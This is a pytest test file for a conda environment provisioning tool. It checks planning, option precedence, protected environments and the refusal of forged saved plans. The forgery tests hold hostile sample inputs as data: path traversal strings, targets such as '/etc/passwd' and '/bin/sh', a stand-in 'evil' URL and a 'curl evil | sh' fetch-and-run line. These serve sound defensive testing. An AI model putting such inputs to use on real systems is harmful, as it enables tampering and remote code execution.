"""``plan`` and ``apply`` of conda environments as people call them: documents, options, saved plans, and what is never touched."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import jsonschema
import pytest

from provisioner.model import codec
from provisioner.model.plan import Plan
from provisioner.plan.seal import SCHEMA, seal
from tests.channel.cuda import NEEDS_COMPILER
from tests.cli.support import Ended, Inside
from tests.conda_sets import Conda, variables
from tests.faults.fingerprint import differences, fingerprint
from tests.support import PYTHON, make_wheel


@pytest.fixture
def run(inside: Inside, conda_shared: Path) -> Callable[..., Ended]:
    """The command, with the small catalogue; the channel is the one that the variable names."""
    given = {**variables(conda_shared), "TFSETUP_CHANNEL": str(conda_shared / "channel"), "TFSETUP_KIND": "conda", "TFSETUP_YES": "1"}

    def call(*arguments: str, **env: str) -> Ended:
        return inside(*arguments, **{**given, **env})

    return call


def test_the_plan_is_one_document_of_its_schema(run) -> None:
    document = run("plan", "--json", "--device", "cuda" if NEEDS_COMPILER.args[0] is False else "cpu").json
    schema = run("schema", "plan").json
    jsonschema.validate(document, schema)
    assert document["conda"]["packages"][0].keys() >= {"url", "size", "sha256"}
    assert document["choice"]["road"] in {"wheels", "libraries"}
    assert document["download"] > sum(item["size"] for item in document["packages"]) > 0


def test_every_package_is_shown_with_its_channel(run, conda_shared: Path) -> None:
    ended = run("plan", "--verbose")
    assert "conda environment" in ended.out
    assert (conda_shared / "channel").as_uri() in ended.out


@pytest.mark.parametrize(
    ("options", "env", "file"),
    [
        (["--kind", "conda", "--channel", "CHANNEL"], {}, ""),
        ([], {"TFSETUP_KIND": "conda", "TFSETUP_CHANNEL": "CHANNEL"}, ""),
        ([], {}, "kind: conda\nchannels: [./channel]\n"),
        (["--channel", "CHANNEL"], {"TFSETUP_CHANNEL": "/nowhere"}, "kind: conda\nchannels: [elsewhere]\n"),
        (["--kind", "conda"], {"TFSETUP_CHANNEL": "CHANNEL"}, "kind: venv\nchannels: [elsewhere]\n"),
    ],
    ids=["options", "variables", "file", "option first", "variable first"],
)
def test_kind_and_channel_come_from_all_three(
    inside: Inside, conda_shared: Path, work: Path, options: list[str], env: dict[str, str], file: str
) -> None:
    # A team's file names folders of its own.
    channel = str(work / "channel")
    Path(channel).symlink_to(conda_shared / "channel")
    if file:
        (work / "tfsetup.yaml").write_text(file)
    arguments = [channel if item == "CHANNEL" else item for item in options]
    given = {name: value.replace("CHANNEL", channel) for name, value in env.items()}
    ended = inside("plan", "--json", *arguments, **{**variables(conda_shared), **given})
    assert ended.code == 0, ended.out
    assert ended.json["conda"]["channels"] == [Path(channel).as_uri()]


@pytest.mark.parametrize(
    ("option", "value", "told"), [("--source", "pypi", "is not one of wheels, conda"), ("--kind", "pixi", "is not one of venv, conda")]
)
def test_a_wrong_word_is_a_usage_error(run, option: str, value: str, told: str) -> None:
    ended = run("plan", option, value)
    assert (ended.code, told in ended.err) == (2, True)


def test_the_channel_itself_may_be_the_source_and_has_no_tensorflow_here(run) -> None:
    """The small channel has one that was built for neither processor nor GPU: its build string is none of conda-forge's."""
    ended = run("plan", "--source", "conda", "--json")
    assert (ended.code, ended.json["error"]["cause"]) == (12, "resolver-conflict")
    assert any("tensorflow" in line for line in ended.json["error"]["refusals"])


def test_source_conda_for_a_virtual_environment(run) -> None:
    ended = run("plan", "--source", "conda", "--kind", "venv")
    assert ended.code == 2
    assert "--kind conda" in ended.err


class TestNeverTouched:
    def make(self, conda: Conda, env: Path) -> Path:
        return conda.foreign(env, "python")

    @pytest.mark.parametrize(
        ("mark", "content", "told"),
        [
            ("conda-meta/frozen", '{"message": "Made by the lab; ask Ada."}', "it is frozen: Made by the lab; ask Ada."),
            ("conda-meta/pixi", "{}", "it belongs to pixi"),
            (f"lib/python{PYTHON}/EXTERNALLY-MANAGED", "", "PEP 668"),
            ("condabin/conda", "", "conda's own environment (base)"),
        ],
    )
    def test_protected_environments(self, run, conda: Conda, work: Path, mark: str, content: str, told: str) -> None:
        env = self.make(conda, work / "lab")
        (env / mark).parent.mkdir(exist_ok=True)
        (env / mark).write_text(content)
        (env / "envs").mkdir()
        before = fingerprint(work)
        for command in (["apply"], ["plan"], ["apply", "--kind", "conda"]):
            ended = run(*command, "--env", "lab", "--json")
            assert ended.code == 2, ended.out
            assert told in ended.json["error"]["message"]
            assert ended.json["error"]["hint"]
        assert differences(before, fingerprint(work)) == []

    def test_kinds_are_not_mixed(self, run, conda: Conda, work: Path) -> None:
        self.make(conda, work / "lab")
        subprocess.run([sys.executable, "-m", "uv", "venv", "-q", "--python", sys.executable, str(work / "venv")], check=True)
        before = fingerprint(work)
        for env, kind, told in (("lab", "venv", "it is a conda environment"), ("venv", "conda", "it is a virtual environment")):
            ended = run("apply", "--env", env, "--kind", kind, "--json")
            assert (ended.code, ended.json["error"]["message"].endswith(told)) == (2, True), ended.out
        assert differences(before, fingerprint(work)) == []

    def test_an_environment_says_its_kind_itself(self, run, conda: Conda, work: Path) -> None:
        self.make(conda, work / "lab")
        document = run("plan", "--env", "lab", "--json", TFSETUP_KIND="").json
        assert document["request"]["kind"] == "conda"
        assert document["request"]["origins"]["kind"] == "the environment"
        assert list(document["conda"]["unchanged"]) == ["python"]


def saved(run, path: Path, *options: str) -> Plan:
    assert run("plan", "-o", str(path), *options).code == 0
    return codec.from_data(Plan, json.loads(path.read_text()), schema=SCHEMA)


def write(path: Path, data: dict) -> None:
    """Write a plan with a seal that fits, as a forger would."""
    plan = codec.from_data(Plan, data, schema=SCHEMA)
    path.write_text(json.dumps(codec.document(SCHEMA, codec.from_data(Plan, {**data, "seal": seal(plan)}, schema=SCHEMA))))


def forge(path: Path, *steps: object, value: object) -> None:
    """Change one value of a saved plan, and seal it."""
    data = json.loads(path.read_text())
    place = data
    for step in steps[:-1]:
        place = place[step]
    place[steps[-1]] = value(place[steps[-1]]) if callable(value) else value
    write(path, data)


EVIL = "http://127.0.0.1:9/evil"
PACKAGE = ("conda", "packages", 0)


@pytest.mark.parametrize(
    ("steps", "value", "told"),
    [
        ((*PACKAGE, "name"), "../python", "conda.packages[0].name"),
        ((*PACKAGE, "version"), "1/../../x", "conda.packages[0].version"),
        ((*PACKAGE, "build"), "../../b", "conda.packages[0].build"),
        ((*PACKAGE, "filename"), "../../x.conda", "conda.packages[0].filename"),
        ((*PACKAGE, "subdir"), "../linux-64", "conda.packages[0].subdir"),
        ((*PACKAGE, "sha256"), "", "conda.packages[0].sha256"),
        ((*PACKAGE, "md5"), "x", "conda.packages[0].md5"),
        ((*PACKAGE, "url"), f"{EVIL}/linux-64/python.conda", "conda.packages[0].url"),
        (("conda", "packages"), lambda found: [*found, found[0]], "is there twice"),
        (("conda", "unchanged"), {"../x": "1 0"}, "conda.unchanged"),
        (("conda", "removals"), [{"identity": "../../etc", "reason": "r"}], "conda.removals[0].identity"),
        (("conda", "specs"), ["python\n==> forged <=="], "conda.specs"),
        (("conda", "registered"), [{"kind": "line", "path": "/etc/passwd", "text": "/x", "made": []}], "conda.registered[0]"),
        (("conda", "registered"), [{"kind": "link", "path": "/bin/sh", "text": "/x/sh", "made": []}], "conda.registered[0]"),
        (("edits", 0, "path"), "../../outside", "edits[0].path"),
        (("edits", 0, "path"), "/etc/profile", "edits[0].path"),
        (("conda",), None, "conda: expected for a conda environment"),
        (("choice", "road"), "", "conda: expected for a conda environment"),
        (("request", "kind"), "venv", "conda: expected for a conda environment"),
    ],
)
def test_what_no_plan_can_hold(run, work: Path, steps: tuple[object, ...], value: object, told: str) -> None:
    saved(run, work / "plan.json", "--env", "lab")
    forge(work / "plan.json", *steps, value=value)
    ended = run("apply", "plan.json", TFSETUP_KIND="")
    assert (ended.code, told in ended.err) == (2, True), ended.err
    assert [path.name for path in work.iterdir()] == ["plan.json"]


def elsewhere(package: dict) -> dict:
    return {**package, "channel": EVIL, "url": f"{EVIL}/{package['subdir']}/{package['filename']}"}


@pytest.mark.parametrize(
    ("steps", "value", "told"),
    [
        (PACKAGE, elsewhere, "none of the channels that this machine is configured with"),
        (("conda", "packages"), [], "has changed"),
        (("conda", "specs"), ["python 3.11.*", "evil *"], "has changed"),
        (("edits", 0, "text"), lambda text: text + "\ncurl evil | sh\n", "has changed"),
        (("edits", 0, "path"), "bin/other", "has changed"),
        (("packages", 0, "sha256"), "0" * 64, "not what the environment needs"),
        (("conda", "removals"), [{"identity": "own-1.0-0", "reason": "r"}], "not what the environment needs"),
        (("conda", "unchanged"), {"own": "1.0 0"}, "not what the environment needs"),
        (("choice", "road"), "conda", "has changed"),
        (("choice", "python"), "3.6", "has changed"),
        (("choice", "device"), "cuda", "has changed"),
    ],
)
def test_what_does_not_follow_from_machine_and_catalogue(run, work: Path, steps: tuple[object, ...], value: object, told: str) -> None:
    saved(run, work / "plan.json", "--env", "lab")
    forge(work / "plan.json", *steps, value=value)
    ended = run("apply", "plan.json", TFSETUP_KIND="")
    assert (ended.code, told in ended.err) == (13, True), ended.err
    assert [path.name for path in work.iterdir()] == ["plan.json"]


def test_a_forged_registration_is_refused(run, work: Path, tmp_path: Path) -> None:
    saved(run, work / "plan.json", "--env", "lab")
    line = {"kind": "line", "path": str(tmp_path / "x/.conda/environments.txt"), "text": str(work / "lab"), "made": []}
    forge(work / "plan.json", "conda", "registered", value=[line])
    ended = run("apply", "plan.json", TFSETUP_KIND="")
    assert (ended.code, "conda knows of its environments" in ended.err) == (13, True), ended.err
    assert not (tmp_path / "x").exists()


def test_another_hash_is_not_what_is_found_here(run, work: Path) -> None:
    saved(run, work / "plan.json", "--env", "lab")
    forge(work / "plan.json", *PACKAGE, "sha256", value="0" * 64)
    ended = run("apply", "plan.json", TFSETUP_KIND="")
    assert (ended.code, "conda: " in ended.err) == (13, True), ended.err
    assert [path.name for path in work.iterdir()] == ["plan.json"]


@pytest.mark.slow
def test_a_channel_that_only_the_plan_names_needs_a_word_of_this_run(run, conda_shared: Path, work: Path) -> None:
    saved(run, work / "plan.json", "--env", "lab", "--channel", str(conda_shared / "channel"))
    alone = run("apply", "plan.json", TFSETUP_KIND="", TFSETUP_CHANNEL="")
    assert (alone.code, "TFSETUP_CHANNEL" in alone.err) == (13, True), alone.err
    assert run("apply", "plan.json", TFSETUP_KIND="").code == 14, "it was made, and its tiny TensorFlow computes nothing"


@pytest.mark.parametrize("existing", [False, pytest.param(True, marks=pytest.mark.slow)], ids=["new", "existing"])
@NEEDS_COMPILER
def test_a_saved_plan_is_applied(run, conda: Conda, work: Path, existing: bool) -> None:
    if existing:
        conda.foreign(work / "lab", "python", "own", "six", channel=conda.earlier)
    before = fingerprint(work)
    saved(run, work / "plan.json", "--env", "lab", "--device", "cuda")
    ended = run("apply", "plan.json", "--json", TFSETUP_KIND="")
    assert ended.code == 14, ended.out
    assert ended.json["state"] == "old"
    (work / "plan.json").unlink()
    assert differences(before, fingerprint(work)) == []


def test_a_plan_is_stale_when_the_environment_has_changed(run, conda: Conda, work: Path) -> None:
    env = conda.foreign(work / "lab", "python", "own")
    saved(run, work / "plan.json", "--env", "lab")
    record = next((env / "conda-meta").glob("own-*.json"))
    record.rename(record.with_name("own-1.1-0.json"))
    ended = run("apply", "plan.json", TFSETUP_KIND="")
    assert ended.code == 13, ended.err


def test_more_packages_are_resolved_around_the_set(run, conda: Conda, work: Path) -> None:
    """``--with`` takes wheels; conda's own copy of one leaves with what needs it."""
    ended = run("plan", "--env", "lab", "--with", "six", "--json")
    assert ended.code == 0, ended.out
    assert "and --with" in ended.json["proof"]


def test_what_pip_has_installed_is_resolved_anew_around_tensorflow(
    run, conda: Conda, conda_shared: Path, work: Path, tmp_path: Path
) -> None:
    """``--keep``: what conda has installed stays as its solver leaves it."""
    env, wheels = conda.foreign(work / "lab", "python"), tmp_path / "own"
    shutil.copytree(conda_shared / "wheels", wheels)
    make_wheel(wheels, "six", "1.0", {"six.py": ""})
    make_wheel(wheels, "friend", "3.0", {"friend.py": ""}, requires=("six<2",))
    make_wheel(wheels, "friend", "4.0", {"friend.py": ""}, requires=("six>=1.5",))
    uv = [sys.executable, "-m", "uv", "pip", "install", "-q", "--offline", "--no-index", "--find-links", str(wheels)]
    subprocess.run([*uv, "--python", f"{env}/bin/python", "friend==3.0", "six==1.0"], check=True)
    given = {"UV_FIND_LINKS": str(wheels), "TFSETUP_YES": ""}
    breaks = run("plan", "--env", "lab", "--json", **given).json
    assert {item["name"]: item["fate"] for item in breaks["neighbours"]}["friend"] == "breaks"
    kept = run("plan", "--env", "lab", "--keep", "--json", **given)
    assert kept.code == 0, kept.err
    assert {item["name"]: item["becomes"] for item in kept.json["neighbours"]}["friend"] == "4.0"
    refused = run("plan", "--env", "lab", "--keep", "--source", "conda", **given)
    assert (refused.code, "without --keep" in refused.err) == (2, True)


@pytest.mark.parametrize("setting", ["offline", "forbidden"])
def test_conda_s_own_configuration_is_kept_to(run, conda_shared: Path, tmp_path: Path, setting: str) -> None:
    condarc = tmp_path / "condarc.yaml"
    condarc.write_text(
        {"offline": "offline: true\n", "forbidden": f"denylist_channels: [{(conda_shared / 'channel').as_uri()}]\n"}[setting]
    )
    ended = run("plan", "--json", CONDARC=str(condarc), **({"TFSETUP_CHANNEL": EVIL} if setting == "offline" else {}))
    if setting == "offline":
        assert (ended.code, "network was forbidden" in ended.json["error"]["message"]) == (1, True), ended.out
    else:
        assert (ended.code, "is forbidden on this machine" in ended.json["error"]["message"]) == (2, True), ended.out


def test_the_same_plan_twice_is_the_same(run) -> None:
    first, second = (run("plan", "--json").json for _ in range(2))
    moment = {"made": "", "seal": "", "preflight": ""}
    assert {**first, **moment} == {**second, **moment}
